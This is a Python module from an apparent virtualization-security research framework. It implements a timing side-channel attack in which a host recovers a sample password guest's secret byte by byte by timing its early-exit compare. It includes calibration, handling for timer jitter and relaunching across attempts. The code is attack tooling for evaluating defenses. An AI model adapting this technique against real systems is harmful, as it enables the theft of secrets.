"""Timing lower bounds: a timer that fires before the answer bounds how long the check ran.

The victim reads candidate lines and answers each (guests/samples/password.c: an early-exit
compare, "denied" per wrong line).  The host arms one timer per attempt, with a quantum
``q`` of at least 32 instructions (never a short entry, so the step policy's detector sees
nothing), counted from the input's completion: either the timer fires before the answer
("the compare ran longer than q") or it does not.  At ``shim`` the timer runs a random
0..32 instructions past ``q`` and shows no count (docs/exits.md), so one attempt is a
coin with bias ``(N - q) / 33`` for a check of N instructions.  The attack uses the one
part of that coin the jitter cannot hide: a check shorter than ``q`` never fires.

For each symbol position every candidate (the victim's public alphabet) is tried at one
``q`` in rounds.  The wrong candidates all run the same length N_w; the right one runs
longer (it matches one more byte).  While ``q`` is below N_w, wrong candidates fire too:
as soon as two different candidates have fired at this ``q``, ``q`` goes up.  Once
``q >= N_w`` only the right candidate can fire: the first candidate to fire three times
while no other fires is taken (twice took a wrong one in about 2% of symbols, just below
N_w where wrong ones fire rarely).  The length goes first, the same way (the compare returns at once
when the lengths differ; each longer line costs a fixed number of instructions more,
measured on the attacker's own copy at ``plain`` with no secret).  Where the platform
shows the count and does not jitter (up to ``snp``) a single round settles each ``q``.

Each launch costs one owner launch secret and allows the victim's own attempt limit; the
attack relaunches (up to ``MAX_LAUNCHES``) until it has the secret.  Neither the answer nor
the limit is needed by the method: the guest's next input request ends an attempt as well
as a console write does, and a victim that reads lines until the input ends allows any
number in one launch (an outside red team read a 128-bit key that way; docs/policies.md,
"red team 3").  No fault, no short
entry: what it measures is how long the guest computes between two I/O events, which a
host always learns (on hardware, by its wall clock).  The answer is the guest's:
constant-time code (modexp-ct's row).
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Generator, Iterator
from dataclasses import dataclass

from tvmm.abi.messages import ExitRecord, Reply
from tvmm.abi.types import ExitReason, Level
from tvmm.host.devices import InputDevice
from tvmm.host.hypervisor import HonestHypervisor
from tvmm.samples import PASSWORD_ALPHABET
from tvmm_tools.attacks._decode import is_console_write, is_input_read
from tvmm_tools.attacks.base import Attack, AttackContext, Outcome, not_applicable
from tvmm_tools.attacks.calibrate import finish

MIN_QUANTUM = 32  # docs/policies.md: min_progress; a quantum below it is a short entry
JITTER = 33  # docs/policies.md: a timed entry runs 0..32 further
MAX_LENGTH = 32  # the victim's public limit (guests/samples/password.c: MAX_PW)
MAX_LAUNCHES = 4
WIN = 3  # fires a line needs, with no other line firing, to be taken (2 errs ~2%)
EMPTY_ROUNDS = 40  # rounds with no fire before a jittered search decides q is too high
MAX_ATTEMPTS = 60_000
CALIBRATION_LENGTH = 16


@dataclass(frozen=True, slots=True)
class Probe:
    line: bytes
    quantum: int


Search = Generator[Probe, bool, bytes | None]


def _ramp(lines: list[bytes], offsets: list[int], q: int, jittered: bool,
          notes: dict) -> Generator[Probe, bool, tuple[int, int] | None]:
    """The index of the line that alone fires at some q, and that q (None if none does)."""
    empty_limit = EMPTY_ROUNDS if jittered else 1
    for _ in range(400):
        fired: Counter = Counter()
        tried = empty = 0
        moved = False
        while not moved:
            round_fired = False
            for i, line in enumerate(lines):
                tried += 1
                if (yield Probe(line, max(MIN_QUANTUM, q + offsets[i]))):
                    fired[i] += 1
                    round_fired = True
                    if len(fired) >= 2:  # wrong lines fire: q is below their count
                        q += 4 if sum(fired.values()) > 0.8 * tried else 1
                        moved = True
                        break
                    if fired[i] >= WIN:
                        notes.setdefault("quanta", []).append(q)
                        return i, q
            if not moved and not round_fired:
                empty += 1
                if empty >= empty_limit:  # nothing fires: q passed even the right line
                    q -= 3
                    moved = True
    return None


def _search(base: float, slope: float, jittered: bool, notes: dict) -> Search:
    """Length, then each symbol; returns the known prefix (all of it when complete)."""
    lengths = list(range(1, MAX_LENGTH + 1))
    lines = [b"a" * n for n in lengths]
    found = yield from _ramp(lines, [round(slope * (n - 1)) for n in lengths],
                             int(base) - JITTER, jittered, notes)
    if found is None:
        notes["why"] = "no length runs longer than the others"
        return None
    index, q = found
    length = lengths[index]
    notes["length"] = length
    q += round(slope * (length - 1))
    known = b""
    for pos in range(length):
        rest = b"a" * (length - pos - 1)
        cands = [known + ch.encode() + rest for ch in PASSWORD_ALPHABET]
        found = yield from _ramp(cands, [0] * len(cands), q - 2, jittered, notes)
        if found is None:
            break
        index, q = found
        known += PASSWORD_ALPHABET[index].encode()
        notes["known"] = known.decode()
    return known


class _TimingHost(HonestHypervisor):
    """Serves the search's lines, one timer per attempt; carries the search across
    launches (a new host each launch)."""

    def __init__(self, *args, search: Search, probe: Probe, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.search, self.probe = search, probe
        self.answer: bytes | None = None
        self.done = False
        self.measuring = self.fired = False
        self.attempts = 0
        self.devices.input = InputDevice(self._lines())

    def _lines(self) -> Iterator[bytes]:
        while not self.done and self.attempts < MAX_ATTEMPTS:
            self.attempts += 1
            yield self.probe.line

    def enter(self) -> Reply:
        self.quantum = self.probe.quantum if self.measuring and not self.fired else 0
        return super().enter()

    def on_exit(self, rec: ExitRecord) -> bool:
        if rec.reason == ExitReason.TIMER and self.measuring:
            self.fired = True
        alive = super().on_exit(rec)  # a console write is in the console after this
        if is_console_write(rec) and self.measuring:
            self.measuring = False
            if "granted" in self.devices.console.text:
                self.done, self.answer = True, self.probe.line
            else:
                try:
                    self.probe = self.search.send(self.fired)
                except StopIteration as stop:
                    self.done, self.answer = True, stop.value
        if is_input_read(rec) and not self.done:
            self.measuring, self.fired = True, False
        return alive


def _mean_count(line: bytes, jittered: bool, trials: int) -> Generator[Probe, bool, float]:
    """The line's instruction count from threshold tests alone: summed over q = 32, 33, ...
    the chance that a timer at q fires is N - 32 - E[jitter] (E = 16 at shim, 0 where
    the timer is exact)."""
    total, q, quiet = 0.0, MIN_QUANTUM, 0
    while quiet < JITTER + 2:
        fired = 0
        for _ in range(trials):
            fired += bool((yield Probe(line, q)))
        total += fired / trials
        quiet = quiet + 1 if fired == 0 else 0
        q += 1
    return MIN_QUANTUM + (JITTER - 1) / 2 * jittered + total


def _calibration(jittered: bool, out: list[float]) -> Search:
    trials = 4 if jittered else 1
    for line in (b"a", b"a" * CALIBRATION_LENGTH):
        out.append((yield from _mean_count(line, jittered, trials)))
    return None


def calibrate(ctx: AttackContext, jittered: bool) -> tuple[float, float] | None:
    """(instructions for a one-byte line, instructions more per byte), measured on the
    attacker's own copy at the victim's level with no secret (every length is wrong
    there): the input path differs between levels (at shim the bounce buffer is copied by
    the shim, not the guest).  None if the own copy does not answer input lines (the
    victim has no attempt to time)."""
    counts: list[float] = []
    search = _calibration(jittered, counts)
    host = ctx.host(_TimingHost, search=search, probe=next(search))
    host.launch(ctx.image, ctx.level, ctx.memory, secret_blob=b"")
    try:
        host.run(max_exits=200_000)
    finally:
        finish(host)
    if len(counts) < 2:
        return None
    return counts[0], (counts[1] - counts[0]) / (CALIBRATION_LENGTH - 1)


class TimingBound(Attack):
    name = "timing-bound"
    summary = ("one timer per attempt (quantum ≥ 32, never short): a timer that fires bounds "
               "how long the early-exit compare ran; rounds over the alphabet defeat jitter")
    victims = ("password",)
    kind = "confidentiality"
    published = ("Kocher (CRYPTO 1996) timing attacks; the early-exit compare falls byte by "
                 "byte in linear time (SGX-Step, USENIX SysTEX 2017).  Inherent to any host "
                 "that sees I/O timing: the guest's answer is constant-time code.")

    def run(self, ctx: AttackContext) -> Outcome:
        jittered = ctx.level == Level.SHIM  # docs/policies.md: the shim jitters timers
        calibrated = calibrate(ctx, jittered)
        if calibrated is None:
            return not_applicable("the own copy answers no input line with a console write: "
                                  "no attempt whose run time a timer could bound")
        base, slope = calibrated
        notes: dict[str, object] = {"calibration": [round(base, 1), round(slope, 2)]}
        hosts: list[HonestHypervisor] = []
        search = _search(base, slope, jittered, notes)
        probe = next(search)
        answer: bytes | None = None
        attempts = 0
        for _ in range(MAX_LAUNCHES):
            host = ctx.host(_TimingHost, search=search, probe=probe)
            ctx.launch(host)
            hosts.append(host)
            host.run(max_exits=2_000_000)
            attempts += host.attempts
            probe = host.probe  # the attempt in flight when the victim ended is asked again
            if host.done:
                answer = host.answer
                break
        exits = sum(sum(h.exits.values()) for h in hosts)
        known = (answer or b"").rstrip(b"\r\n") or str(notes.get("known", "")).encode()
        length = notes.get("length")
        if isinstance(length, int) and len(known) < length:
            guess = known + b"a" * (length - len(known))
            mask = b"\x01" * len(known) + b"\x00" * (length - len(known))
        else:
            guess, mask = (known or None), None
        notes.update(attempts=attempts, launches=len(hosts), jittered=jittered,
                     ended=[f"{h.run_result.how} {h.run_result.status} {h.run_result.detail}"
                            for h in hosts if h.run_result is not None],
                     detail=f"{attempts} attempts over {len(hosts)} launches, timers of "
                            f"q ≥ {MIN_QUANTUM}{' with jitter' if jittered else ''}; "
                            f"{len(known)} of {length if length else '?'} symbols")
        return Outcome(guess=guess, known=mask if guess is not None else None, hosts=hosts,
                       exits=exits, notes=notes)
